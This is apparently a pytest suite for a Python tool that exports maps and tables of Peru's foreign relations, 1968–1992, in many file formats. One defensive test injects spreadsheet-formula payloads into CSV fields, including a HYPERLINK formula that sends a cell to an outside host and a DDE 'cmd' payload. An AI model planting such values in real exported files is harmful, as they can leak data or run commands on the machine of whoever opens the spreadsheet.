"""What is on screen can be taken away, in every format, and the numbers stay the same."""

from __future__ import annotations

import codecs
import csv
import json
import re
import sqlite3
from collections.abc import Callable, Iterable
from contextlib import closing
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import Any, TypedDict
from urllib.parse import unquote, urljoin, urlsplit
from xml.etree import ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
import yaml
from click.testing import CliRunner, Result

import perufr_map as pm
from perufr_map import exports
from perufr_map.cli import main
from perufr_map.cli._talk import print_frame
from perufr_map.exports import FORMATS, format_of, qgis, to_bytes
from perufr_map.exports.formulas import disarm
from perufr_map.exports.html import compact
from perufr_map.exports.layers import name_layers
from perufr_map.resources import package_text
from perufr_map.shown.request import Request, Shown
from perufr_map.shown.scale import Scale
from perufr_map.shown.words import Words

CAMEO = {"weights": "cameo", "share": "0.3"}
NUMBERS = ["score", "net", "cooperation", "conflict", "events", "inherited"]


class Eras(TypedDict):
    """Which era is exported, and with which it is compared."""

    era: str
    before: str


def run(*words: str) -> Result:
    return CliRunner().invoke(main, words)


@pytest.fixture(scope="module")
def cameo(study: pm.Study) -> pm.Method:
    return pm.Method.read(CAMEO, study.method)


@pytest.fixture(scope="module")
def geopackage(study: pm.Study, cameo: pm.Method, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("gpkg") / "peru.gpkg"
    study.export(path, language="es", method=cameo)
    return path


def same_numbers(found: pd.DataFrame, expected: pd.DataFrame) -> None:
    """Counterparts that have a score have the study's numbers."""
    found = found.dropna(subset="score").set_index("counterpart")[NUMBERS].astype(float)
    expected = expected.set_index("counterpart")[NUMBERS].astype(float).loc[found.index]
    np.testing.assert_allclose(found, expected, atol=1e-6)
    assert len(found) > 3


STARTS = {
    ".html": b"<!DOCTYPE html>",
    ".png": b"\x89PNG",
    ".svg": b"<?xml",
    ".pdf": b"%PDF",
    ".gif": b"GIF89a",
    ".csv": codecs.BOM_UTF8 + b"era,counterpart,name,kind,score",
    "events.csv": codecs.BOM_UTF8 + b"era,counterpart,name,contribution",
    ".geojson": b"{",
    ".gpkg": b"SQLite format 3",
    ".parquet": b"PAR1",
    ".bib": b"@misc{peru-foreign-relations-1968-1992,",
    ".cff": b"cff-version: ",
}


@pytest.mark.parametrize("ending", FORMATS)
def test_the_ending_of_the_name_says_the_format(ending: str, tmp_path: Path) -> None:
    path = tmp_path / f"peru{ending.replace('events', '.events')}"
    result = run("export", str(path), "--era", "garcia", "--lang", "es")
    assert result.exit_code == 0, result.output
    assert result.stdout == f"{path}: {path.stat().st_size / 1000:.0f} KB\n"
    assert list(tmp_path.iterdir()) == [path]
    assert path.read_bytes().startswith(STARTS[ending])


def test_every_format_has_a_name_in_each_language() -> None:
    for language in ("en", "es"):
        words = json.loads(package_text(f"messages/{language}.json"))
        assert all(words[form.label] for form in FORMATS.values())


def test_a_name_that_ends_in_events_csv_asks_for_events() -> None:
    for name in ("events.csv", "peru-events.csv", "Peru.Events.CSV"):
        assert format_of(name) is FORMATS["events.csv"]
    assert format_of("event.csv") is FORMATS[".csv"]


def test_an_unknown_ending_is_answered_with_all_of_them() -> None:
    result = run("export", "map.docx")
    assert result.exit_code != 0
    assert all(ending in result.stderr for ending in FORMATS)
    assert all(ending in run("export", "--help").stdout for ending in FORMATS)


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["--theme", "sepia"], "'light', 'dark'"),
        (["--select", "NARNIA"], "no counterpart “NARNIA”"),
        (["--lang", "qu"], "there are en, es"),
        (["--embed"], "--embed is for .html"),
        (["--era", "garcia", "--all-eras"], "not both"),
        (["--before", "leguia"], "no era “leguia”; there are velasco, morales"),
        (["--era", "garcia", "--before", "garcia"], "compared with itself; choose another one"),
    ],
)
def test_a_wrong_choice_is_told_and_writes_nothing(
    words: list[str], says: str, tmp_path: Path
) -> None:
    result = run("export", str(tmp_path / "peru.svg"), *words)
    assert result.exit_code != 0
    assert says in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_all_eras_make_a_series_of_pictures_and_one_table(study: pm.Study, tmp_path: Path) -> None:
    result = run("export", str(tmp_path / "peru.svg"), "--all-eras", "--lang", "es")
    assert result.exit_code == 0, result.output
    names = [f"peru-{era}.svg" for era in study.eras["id"]]
    assert [Path(line.rpartition(":")[0]).name for line in result.stdout.splitlines()] == names
    assert {path.name for path in tmp_path.iterdir()} == set(names)
    assert "Después del autogolpe" in (tmp_path / "peru-autogolpe.svg").read_text("utf-8")
    (table,) = study.export(tmp_path / "peru.csv", all_eras=True)
    assert list(pd.read_csv(table)["era"].unique()) == list(study.eras["id"])


FORMULA = '=HYPERLINK("https://example.org/?"&A1,"more")'
STARTS_OF_FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001


def cells(text: str) -> set[str]:
    """Return the texts of a CSV, without what is a number."""
    rows = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
    return {cell for row in rows for cell in row if not re.fullmatch(r"-?[0-9.]+", cell)}


def test_no_text_of_a_table_is_a_formula(folder: Path, edit: Any, tmp_path: Path) -> None:
    edit("events.csv", {"counterpart": "VEN"}, headline_en=FORMULA, narrative_en="+cmd|' /C x'!A0")
    edit("counterparts.csv", {"id": "VEN"}, name_en="@SUM(1+1)*cmd")
    edit("counterparts.csv", {"id": "USA"}, name_en="-2+3")
    study = pm.load(folder)
    study.export(tmp_path / "events.csv", all_eras=True)
    study.export(tmp_path / "scores.csv", all_eras=True)
    study.export(tmp_path / "changes.csv", before="velasco")
    study.site(tmp_path / "site")
    files = [*tmp_path.glob("*.csv"), *(tmp_path / "site" / "en").rglob("*.csv")]
    assert len(files) == 5
    for file in files:
        found = cells(file.read_text("utf-8"))
        assert not [cell for cell in found if cell.startswith(STARTS_OF_FORMULAS)]
        assert {"'@SUM(1+1)*cmd", "'-2+3"} <= found
        events = {f"'{FORMULA}", "'+cmd|' /C x'!A0"}
        assert (events <= found) == (file.name == "events.csv")


def test_a_number_is_no_formula() -> None:
    frame = pd.DataFrame(
        {
            "number": [-1.5, 2],
            "count": pd.array([-3, None], dtype="Int64"),
            "text": ["-3.5", "+51"],
            "mixed": [-1, "\t=1"],
            "category": pd.Categorical(["＝1", "Peru"]),  # noqa: RUF001
            "word": pd.array(["-", pd.NA], dtype="string"),
        }
    )
    found = disarm(frame).to_csv(index=False, lineterminator="\n").splitlines()
    assert found[1] == "-1.5,-3,-3.5,-1,'＝1,'-"  # noqa: RUF001
    assert found[2] == "2.0,,+51,'\t=1,Peru,"


def test_a_table_on_the_command_line_holds_no_formula(capsys: pytest.CaptureFixture[str]) -> None:
    print_frame(pd.DataFrame({"counterpart": [FORMULA], "score": [-2.5]}), "csv")
    assert "'" + FORMULA.replace('"', '""') in capsys.readouterr().out
    print_frame(pd.DataFrame({"counterpart": [FORMULA], "score": [-2.5]}), "json")
    (row,) = json.loads(capsys.readouterr().out)
    assert row == {"counterpart": FORMULA, "score": -2.5}


@pytest.mark.parametrize(
    "name", ["peru.html", "a#b%20.html", "a b?c=d&e.html", "a:b.html", "perú.html", '"><b>.html']
)
def test_the_frame_of_an_embedded_page_leads_to_its_file(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text("")
    (source,) = re.findall(r'<iframe src="([^"]*)" title', exports.iframe(name, "Peru & others"))
    address = urljoin(tmp_path.as_uri() + "/", source)
    assert not urlsplit(address).query + urlsplit(address).fragment
    assert Path(unquote(urlsplit(address).path)) == tmp_path / name


@pytest.mark.parametrize("holds", ["one", "chosen", "all"])
def test_a_file_is_written_entirely_or_not_at_all(
    holds: Any, study: pm.Study, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stumble(_shown: Shown, _eras: Iterable[str], path: Path) -> None:
        path.write_text("half")
        raise OSError(28, "No space left on device")

    break_lines = replace(FORMATS[".csv"], holds=holds, write=stumble)
    monkeypatch.setitem(FORMATS, ".csv", break_lines)
    before = tmp_path / "peru.csv"
    before.write_text("whole")
    with pytest.raises(OSError, match="No space left"):
        study.export(before)
    assert [path.read_text() for path in tmp_path.iterdir()] == ["whole"]
    result = run("export", str(before))
    assert (result.exit_code, "No space left on device" in result.stderr) == (1, True)


def test_scores_are_those_of_the_study(study: pm.Study, tmp_path: Path) -> None:
    (path,) = study.export(tmp_path / "peru.csv", era="garcia", language="es")
    found = pd.read_csv(path)
    expected = study.scores(era="garcia")
    assert list(found["counterpart"]) == list(expected["counterpart"])
    same_numbers(found, expected)
    names = found.set_index("counterpart")["name"]
    assert names["USA"] == "Estados Unidos"
    assert "method" not in found


def test_events_add_up_to_the_scores(study: pm.Study, tmp_path: Path) -> None:
    (path,) = study.export(tmp_path / "events.csv", era="garcia")
    found = pd.read_csv(path)
    net = found.groupby("counterpart")["contribution"].sum()
    expected = study.scores(era="garcia").set_index("counterpart")["net"]
    pd.testing.assert_series_equal(net, expected, atol=1e-5, check_names=False)
    inherited = found[found["via"].notna()]
    assert set(inherited["via_name"]) == {"Neighbouring countries"}
    assert found["citation"].str.match(r"Peru: A Country Study, .* ¶ \d+$").all()
    assert (found[["headline", "narrative", "type"]] != "").all(axis=None)


def test_geojson_follows_its_standard(study: pm.Study, tmp_path: Path) -> None:
    (path,) = study.export(tmp_path / "peru.geojson", era="velasco", language="es")
    raw = json.loads(path.read_text("utf-8"))
    assert "crs" not in raw
    assert "CC-BY-4.0" in raw["description"]
    found = gpd.read_file(path).rename(columns={"code": "counterpart"})
    assert found.crs.to_epsg() == 4326
    assert set(found["counterpart"]) == set(study.states(era="velasco")["code"])
    same_numbers(found, study.scores(era="velasco"))
    assert found.set_index("counterpart")["name"]["DDR"] == "Alemania Oriental"
    rings = shapely.get_exterior_ring(shapely.get_parts(found.geometry.values))
    assert shapely.is_ccw(rings[~shapely.is_missing(rings)]).all()


def test_parquet_holds_one_era_or_all(study: pm.Study, cameo: pm.Method, tmp_path: Path) -> None:
    (one,) = study.export(tmp_path / "one.parquet", era="morales")
    found = gpd.read_parquet(one).rename(columns={"code": "counterpart"})
    same_numbers(found, study.scores(era="morales"))
    (every,) = study.export(tmp_path / "all.parquet", all_eras=True, method=cameo)
    frame = gpd.read_parquet(every)
    assert list(frame["era"].unique()) == list(study.eras["id"])
    said = json.loads(pq.read_schema(every).metadata[b"perufr-map"])
    assert said["method"] == "weights=cameo share=0.3"
    assert "Natural Earth" in said["colophon"]


def test_a_geopackage_has_a_layer_for_each_era(
    geopackage: Path, study: pm.Study, cameo: pm.Method
) -> None:
    layers = gpd.list_layers(geopackage).set_index("name")["geometry_type"]
    eras = list(study.eras["id"])
    assert list(layers.index) == [*eras, "scores", "events", "layer_styles"]
    assert set(layers[eras]) == {"MultiPolygon"}
    for era in ("velasco", "autogolpe"):
        found = gpd.read_file(geopackage, layer=era).rename(columns={"code": "counterpart"})
        same_numbers(found, study.scores(era=era, method=cameo))
        assert set(found["method"]) == {"weights=cameo share=0.3"}
    scored = gpd.read_file(geopackage, layer="scores")
    assert len(scored) == len(study.scores(method=cameo))
    assert "Fondo Monetario Internacional" in set(scored["name"])


def test_a_geopackage_carries_the_style_that_qgis_looks_for(
    geopackage: Path, study: pm.Study
) -> None:
    with closing(sqlite3.connect(geopackage)) as opened:
        rows = opened.execute(
            "SELECT f_table_name, f_geometry_column, useAsDefault, styleQML FROM layer_styles"
        ).fetchall()
        columns = opened.execute("SELECT table_name, column_name FROM gpkg_geometry_columns")
        geometry = dict(columns.fetchall())
        contents = dict(opened.execute("SELECT table_name, description FROM gpkg_contents"))
    assert {table: column for table, column, _, _ in rows} == geometry
    assert all(default == 1 for _, _, default, _ in rows)
    assert "CC-BY-4.0" in contents["garcia"]
    assert "weights=cameo" in contents["garcia"]
    root = ET.fromstring(rows[0][3])  # noqa: S314 (our own file)
    assert root.find("renderer-v2[@type='RuleRenderer']") is not None
    fills = [
        node.get("v") for node in root.iterfind(".//layer[@class='SimpleFill']/prop[@k='color']")
    ]
    colours = study.payload()["scale"]["ramps"]["light"]["colours"]
    expected = [",".join(map(str, (*bytes.fromhex(colour[1:]), 255))) for colour in colours]
    assert fills[-len(expected) :] == expected


def test_the_rules_of_the_style_part_the_scores_as_the_map_does(
    geopackage: Path, study: pm.Study
) -> None:
    with closing(sqlite3.connect(geopackage)) as opened:
        (style,) = opened.execute("SELECT styleQML FROM layer_styles LIMIT 1").fetchone()
        rules = ET.fromstring(style).findall(".//rule")  # noqa: S314 (our own file)
        counted = [
            opened.execute(f"SELECT count(*) FROM garcia WHERE {rule.get('filter')}").fetchone()[0]  # noqa: S608
            for rule in rules
        ]
        total = opened.execute("SELECT count(*) FROM garcia").fetchone()[0]
    *parts, _single = counted
    assert len(parts) == 2 + len(study.payload()["scale"]["thresholds"]) + 1
    assert sum(parts) == total


RENAMED = {
    "velasco": "events",
    "morales": "scores",
    "belaunde": "layer_styles",
    "garcia": "gpkg_garcia",
    "fujimori": "sqlite_fujimori",
    "autogolpe": "changes",
}


@pytest.mark.parametrize("before", [None, "layer_styles"])
def test_eras_may_have_the_names_that_a_geopackage_keeps_for_itself(
    before: str | None, folder: Path, tmp_path: Path
) -> None:
    """And several may have one name: titles of layers must differ."""
    path = folder / "eras.csv"
    eras = pd.read_csv(path, dtype=str, keep_default_na=False)
    eras["id"] = eras["id"].map(RENAMED)
    eras["name_en"] = ["events", "Junta", "Junta", "Junta (2)", "changes", "scores"]
    eras.to_csv(path, index=False)
    study = pm.load(folder)
    study.export(tmp_path / "peru.gpkg", before=before)
    layers = {
        "events": "era_events",
        "scores": "era_scores",
        "layer_styles": "era_layer_styles",
        "gpkg_garcia": "era_gpkg_garcia",
        "sqlite_fujimori": "era_sqlite_fujimori",
        "changes": "changes" if before is None else "era_changes",
    }
    added = [] if before is None else ["changes-vs-layer_styles"]
    tables = ["scores", "events", *(["changes"] if before else []), "layer_styles"]
    listed = pyogrio.list_layers(tmp_path / "peru.gpkg")[:, 0]
    assert list(listed) == [*layers.values(), *added, *tables]
    for era, layer in layers.items():
        found = gpd.read_file(tmp_path / "peru.gpkg", layer=layer)
        assert set(found["era"]) == {era}
        states = found.rename(columns={"code": "counterpart"})
        same_numbers(states, study.scores(era=era).query("counterpart in @states.counterpart"))
    with closing(sqlite3.connect(tmp_path / "peru.gpkg")) as file:
        titles = dict(file.execute("SELECT table_name, identifier FROM gpkg_contents"))
        styled = [name for (name,) in file.execute("SELECT f_table_name FROM layer_styles")]
    of_eras = [titles[layer] for layer in layers.values()]
    expected = ["events (2)", "Junta", "Junta (3)", "Junta (2)", "changes", "scores (2)"]
    if before is not None:
        expected[4] = "changes (2)"
    assert (of_eras, styled) == (expected, [*layers.values(), *added])


@pytest.mark.parametrize(
    ("wanted", "names"),
    [
        (["era_events", "events"], ["era_events", "era_era_events"]),
        (["events", "era_events"], ["era_era_events", "era_events"]),
        (["junta", "Junta"], ["junta", "era_Junta"]),
        (["rtree_junta_geom", "ogr_empty_table"], ["era_rtree_junta_geom", "era_ogr_empty_table"]),
        (["a", "b", "a-vs-b", "a-vs-b"], ["a", "b", "a-vs-b", "era_a-vs-b"]),
    ],
)
def test_a_layer_whose_name_is_taken_gives_way(wanted: list[str], names: list[str]) -> None:
    assert name_layers(wanted, tables=["events"]) == names


def test_the_page_opens_at_what_was_on_screen(tmp_path: Path) -> None:
    path = tmp_path / "peru.html"
    result = run("export", str(path), "--era", "garcia", "--select", "USA", "--embed")
    assert result.exit_code == 0, result.output
    page = path.read_text("utf-8")
    for choice in ('"era":"garcia"', '"selected":"USA"', '"chrome":"embed"'):
        assert choice in page
    snippet = result.stdout.splitlines()[-1]
    assert snippet.startswith('<iframe src="peru.html" title="Peru’s foreign relations, 1968–1992"')


@pytest.mark.parametrize("ending", [ending for ending in FORMATS if ending != ".gif"])
def test_a_file_says_where_its_method_departs_and_is_the_same_bytes_again(
    ending: str, study: pm.Study, cameo: pm.Method
) -> None:
    request = Request(era="autogolpe", language="en", method=cameo)
    written = to_bytes(study.show(request), ending)
    assert b"cameo" in written.lower()
    assert to_bytes(study.show(request), ending) == written


def test_the_citation_is_valid(study: pm.Study, cameo: pm.Method, tmp_path: Path) -> None:
    (path,) = study.export(tmp_path / "CITATION.cff", method=cameo)
    found = yaml.safe_load(path.read_text("utf-8"))
    shipped = yaml.safe_load((Path(__file__).parents[2] / "CITATION.cff").read_text("utf-8"))
    for cff in (found, shipped):
        assert {"authors", "cff-version", "message", "title"} <= set(cff)
        assert cff["cff-version"] == "1.2.0"
        assert cff["type"] in {"dataset", "software"}
        for reference in cff["references"]:
            assert {"authors", "title", "type"} <= set(reference)
            assert reference["type"] in {"book", "data", "software"}  # of the schema's list
    assert found["title"] == study.descriptor["title"]
    assert found["license"] == study.descriptor["licenses"][0]["name"]
    assert found["date-released"] == study.descriptor["created"][:10]
    assert "weights=cameo" in found["message"]
    assert shipped["version"] == pm.__version__
    assert shipped["references"][0]["version"] == study.descriptor["version"]


def test_bibtex_survives_its_special_characters(folder: Path, edit: Any, tmp_path: Path) -> None:
    edit("sources.csv", {"id": "lc-peru-1993"}, title="Peru & {Chile}: 100% #1_a")
    (path,) = pm.load(folder).export(tmp_path / "peru.bib")
    written = path.read_text("utf-8")
    assert r"title        = {{Peru \& \{Chile\}: 100\% \#1\_a}}" in written
    assert "editor       = {Rex A. Hudson}" in written
    assert written.count("@") == 3


def test_scores_and_help_do_not_wait_for_drawing() -> None:
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415

    code = (
        "import sys; from click.testing import CliRunner; from perufr_map.cli import main;"
        "CliRunner().invoke(main, ['scores']); CliRunner().invoke(main, ['export', '--help']);"
        "print({'matplotlib', 'PIL', 'geopandas', 'folium'} & set(sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "set()\n"


def test_every_format_stands_in_the_docs() -> None:
    page = (Path(__file__).parents[2] / "docs" / "exports.md").read_text("utf-8")
    assert all(f"\n| `{ending}` |" in page for ending in FORMATS)


@pytest.fixture(scope="module")
def compared(study: pm.Study, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A GeoPackage in which García's era is compared with Velasco's."""
    path = tmp_path_factory.mktemp("compared") / "peru.gpkg"
    study.export(path, era="garcia", before="velasco", language="es")
    return path


def same_change(found: pd.DataFrame, study: pm.Study, before: str, era: str) -> None:
    """Say that counterparts have the change, and the numbers behind it, that the study has."""
    moved = study.compare(before, era).set_index("counterpart")
    found = found.set_index("counterpart").dropna(subset="change_status")
    moved = moved.loc[found.index]
    assert found["change_status"].tolist() == moved["status"].tolist()
    assert {"changed", "new", "gone"} <= set(found["change_status"])
    for ours, theirs in (("score_before", "before"), ("score", "after"), ("change", "change")):
        np.testing.assert_allclose(
            found[ours].astype(float), moved[theirs].astype(float), atol=1e-6
        )
    for name, suffix in ((era, ""), (before, "_before")):
        numbers = study.scores(era=name).set_index("counterpart")[NUMBERS[1:]]
        expected = numbers.reindex(found.index).astype(float)
        columns = [f"{column}{suffix}" for column in numbers]
        np.testing.assert_allclose(found[columns].astype(float), expected, atol=1e-6)


def test_a_table_of_a_comparison_has_both_scores_and_what_became_of_them(
    study: pm.Study, tmp_path: Path
) -> None:
    path = tmp_path / "peru.csv"
    result = run("export", str(path), "--era", "garcia", "--before", "velasco", "--lang", "es")
    assert result.exit_code == 0, result.output
    found = pd.read_csv(path)
    assert list(found["counterpart"]) == list(study.compare("velasco", "garcia")["counterpart"])
    same_change(found, study, "velasco", "garcia")
    assert set(found["era"] + found["era_before"]) == {"garciavelasco"}
    assert found.set_index("counterpart").loc["USA", "name"] == "Estados Unidos"
    assert set(found["kind"]) == {"state", "organisation", "group", "non-state"}
    assert "method" not in found
    counts = path.read_text("utf-8").splitlines()[1].split(",")
    assert "8" in counts  # not 8.0, though some counts are missing


def test_events_of_a_comparison_add_up_to_both_scores(study: pm.Study, tmp_path: Path) -> None:
    view = Eras(era="garcia", before="velasco")
    found = pd.read_csv(study.export(tmp_path / "events.csv", **view)[0])
    table = pd.read_csv(study.export(tmp_path / "peru.csv", **view)[0]).set_index("counterpart")
    net = found.groupby(["era", "counterpart"])["contribution"].sum()
    assert list(found["era"].unique()) == ["velasco", "garcia"]
    for era, column in (("garcia", "net"), ("velasco", "net_before")):
        expected = table[column].dropna().sort_index()
        pd.testing.assert_series_equal(net[era], expected, atol=1e-5, check_names=False)


def test_layers_of_a_comparison_have_both_scores_of_each_state(
    study: pm.Study, tmp_path: Path
) -> None:
    view = Eras(era="garcia", before="velasco")
    (path,) = study.export(tmp_path / "peru.geojson", **view)
    assert "Compared with: Velasco’s military government." in path.read_text("utf-8")[:400]
    (other,) = study.export(tmp_path / "peru.parquet", **view)
    said = json.loads(pq.read_schema(other).metadata[b"perufr-map"])
    assert said["compared"] == "Compared with: Velasco’s military government."
    for frame in (gpd.read_file(path), gpd.read_parquet(other)):
        assert set(frame["code"]) == set(study.states(era="garcia")["code"])
        assert set(frame["era_before"]) == {"velasco"}
        assert "independent" in set(frame["status"])
        same_change(frame.rename(columns={"code": "counterpart"}), study, "velasco", "garcia")


def test_a_geopackage_has_a_layer_of_the_change_beside_those_of_the_eras(
    compared: Path, study: pm.Study
) -> None:
    layers = list(gpd.list_layers(compared)["name"])
    eras, change = list(study.eras["id"]), "garcia-vs-velasco"
    assert layers == [*eras, change, "scores", "events", "changes", "layer_styles"]
    found = gpd.read_file(compared, layer=change).rename(columns={"code": "counterpart"})
    same_change(found, study, "velasco", "garcia")
    same_numbers(
        gpd.read_file(compared, layer="garcia").rename(columns={"code": "counterpart"}),
        study.scores(era="garcia"),
    )
    assert len(gpd.read_file(compared, layer="changes")) == len(study.compare("velasco", "garcia"))
    with closing(sqlite3.connect(compared)) as opened:
        about = dict(opened.execute("SELECT table_name, identifier FROM gpkg_contents"))
    assert about[change] == "Primer gobierno de García, comparada con Gobierno militar de Velasco"


def test_the_rules_of_the_style_part_the_changes_as_the_map_does(
    compared: Path, study: pm.Study
) -> None:
    with closing(sqlite3.connect(compared)) as opened:
        (style,) = opened.execute(
            "SELECT styleQML FROM layer_styles WHERE f_table_name = 'garcia-vs-velasco'"
        ).fetchone()
        root = ET.fromstring(style)  # noqa: S314 (our own file)
        rules = {
            rule.get("label"): {
                code
                for (code,) in opened.execute(
                    f"SELECT code FROM 'garcia-vs-velasco' WHERE {rule.get('filter')}"  # noqa: S608
                )
            }
            for rule in root.iter("rule")
            if rule.get("filter")
        }
    *parts, single = rules.values()
    states = study.states(era="garcia")
    assert sum(map(len, parts)) == len(states) == len(set().union(*parts))
    moved = study.compare("velasco", "garcia").set_index("counterpart")
    drawn = moved[moved.index.isin(states["code"])]
    assert rules["Datos nuevos"] == set(drawn.index[drawn["status"] == "new"])
    assert rules["Ya sin datos"] == set(drawn.index[drawn["status"] == "gone"])
    assert "USA" in rules["+6 …"]
    assert {"COL", "SUN"} <= single
    assert "USA" not in single
    kinds = {layer.get("class") for layer in root.iter("layer")}
    assert kinds == {
        *("SimpleFill", "LinePatternFill", "SimpleLine", "PointPatternFill", "SimpleMarker")
    }
    colours = study.payload()["scale"]["change"]["ramps"]["light"]["colours"]
    fills = [
        node.get("v") for node in root.iterfind(".//layer[@class='SimpleFill']/prop[@k='color']")
    ]
    expected = [",".join(map(str, (*bytes.fromhex(colour[1:]), 255))) for colour in colours]
    assert fills[-len(expected) :] == expected


@pytest.mark.parametrize("ending", FORMATS)
def test_eras_without_any_data_can_be_compared(
    ending: str, study: pm.Study, tmp_path: Path
) -> None:
    nothing = pm.Method(without=frozenset(study.event_types["category"]))
    path = tmp_path / f"peru{ending.replace('events', '.events')}"
    study.export(path, era="garcia", before="velasco", method=nothing)
    if ending == ".csv":
        assert pd.read_csv(path).empty
    if ending == ".geojson":
        assert gpd.read_file(path)["change_status"].isna().all()


def test_all_eras_are_compared_with_the_same_one(study: pm.Study, tmp_path: Path) -> None:
    others = [era for era in study.eras["id"] if era != "autogolpe"]
    words = ("--all-eras", "--before", "autogolpe")
    result = run("export", str(tmp_path / "peru.svg"), *words)
    assert result.exit_code == 0, result.output
    names = [f"peru-{era}-vs-autogolpe.svg" for era in others]
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(names)
    (table,) = study.export(tmp_path / "peru.csv", all_eras=True, before="autogolpe")
    assert list(pd.read_csv(table)["era"].unique()) == others
    (events,) = study.export(tmp_path / "events.csv", all_eras=True, before="autogolpe")
    assert list(pd.read_csv(events)["era"].unique()) == list(study.eras["id"])


@pytest.mark.parametrize("ending", FORMATS)
def test_a_comparison_is_the_same_bytes_again_and_no_citation_speaks_of_it(
    ending: str, study: pm.Study, cameo: pm.Method
) -> None:
    request = Request(era="autogolpe", before="garcia", language="en", method=cameo)
    written = to_bytes(study.show(request), ending)
    assert to_bytes(study.show(request), ending) == written
    alone = to_bytes(study.show(replace(request, before=None)), ending)
    assert (written == alone) == (FORMATS[ending].holds == "none")


def test_the_page_carries_the_comparison_on_screen(study: pm.Study, tmp_path: Path) -> None:
    (page,) = study.export(tmp_path / "map.html", era="autogolpe", before="garcia")
    assert '"before":"garcia"' in page.read_text("utf-8")
    shown = study.map(before="autogolpe").to_html()
    assert '"era":"fujimori"' in shown
    assert '"before":"autogolpe"' in shown
    with pytest.raises(ValueError, match="compared with itself"):
        study.map(era="garcia", before="garcia")
    with pytest.raises(KeyError, match="there are velasco"):
        study.map(before="leguia")


@pytest.mark.parametrize("style", [qgis.score_style, qgis.change_style])
def test_qgis_says_the_edges_of_a_class_as_the_map_s_legend_does(
    style: Callable[[Scale, str, Words], str], study: pm.Study
) -> None:
    words = Words(study, "en")
    rules = ET.fromstring(style(Scale.of("light"), "PER", words)).iter("rule")  # noqa: S314
    labels = [rule.get("label", "") for rule in rules]
    edges = {edge for label in labels if "…" in label for edge in label.split(" … ") if edge}
    said = {words.signed(number, digits=0) for number in range(-10, 11)}
    assert edges
    assert {edge.strip("… ") for edge in edges} <= said


@pytest.mark.parametrize("group_share", [0.5, 1.0])
def test_a_share_in_the_page_says_what_it_adds_and_through_whom(
    study: pm.Study, group_share: float
) -> None:
    whole = study.payload(method=replace(study.method, group_share=group_share))
    events, lean = whole["events"], compact(whole)
    inherited = 0
    for era, other in zip(whole["eras"], lean["eras"], strict=True):
        for code, score in era["scores"].items():
            for share, sent in zip(score["events"], other["scores"][code]["events"], strict=True):
                usual = (None, None, events[share[0]]["weight"])
                assert (*sent, *usual[len(sent) :]) == tuple(share)
                inherited += share[1] is not None
    assert inherited
